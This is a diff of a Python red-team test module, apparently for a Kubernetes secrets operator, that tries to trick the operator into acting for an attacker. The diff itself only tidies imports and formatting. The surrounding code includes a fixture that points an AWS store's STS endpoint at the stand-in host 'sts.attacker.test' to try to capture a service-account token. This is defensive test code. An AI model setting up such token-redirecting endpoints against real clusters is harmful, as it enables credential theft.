@@ -1,10 +1,9 @@
 """Attacks that would have the operator do what the attacker may not: its authors, its stores, its stolen token."""
 
-from __future__ import annotations
-
 import itertools
+from collections.abc import Iterator
 from pathlib import Path
-from typing import TYPE_CHECKING, Any, Final
+from typing import Any, Final
 
 import yaml
 
@@ -12,19 +11,12 @@ from keyturn.core.labels import MARKER
 from sandbox.harness import Kubectl, eventually
 from tests.cluster.hostile_specs import write_secret
 from tests.cluster.hostile_vault import hostile
-from tests.cluster.namespace import literal, password
+from tests.cluster.namespace import Space, literal, password
 from tests.cluster.store_objects import Stores, pulled
 from tests.cluster.workloads import deployment, env_from
 from tests.redteam.attack import attack
-from tests.redteam.target import ROOT
-from tests.support.objects import Refused
-
-if TYPE_CHECKING:
-    from collections.abc import Iterator
-
-    from tests.cluster.namespace import Space
-    from tests.redteam.target import AttackTarget
-    from tests.support.objects import Body
+from tests.redteam.target import ROOT, AttackTarget
+from tests.support.objects import Body, Refused
 
 _COMPONENT: Final = ROOT / "manifests" / "components" / "workload-identity" / "tokens.yaml"
 _MERGE: Final = {"name": "theirs", "creationPolicy": "Merge"}
@@ -267,9 +259,7 @@ def _vault(address: str, account: str, **more: str) -> Body:
 def _aws(address: str, account: str) -> Body:
     auth = {"webIdentity": {"serviceAccountRef": {"name": account}}}
     role = {"roleArn": "arn:aws:iam::123456789012:role/shop", "stsEndpoint": "https://sts.attacker.test"}
-    return {
-        "awsSecretsManager": {"region": "eu-central-1", "endpoint": address, "auth": auth, **role},
-    }
+    return {"awsSecretsManager": {"region": "eu-central-1", "endpoint": address, "auth": auth, **role}}
 
 
 def _account(space: Space, name: str, to: str = "") -> None:
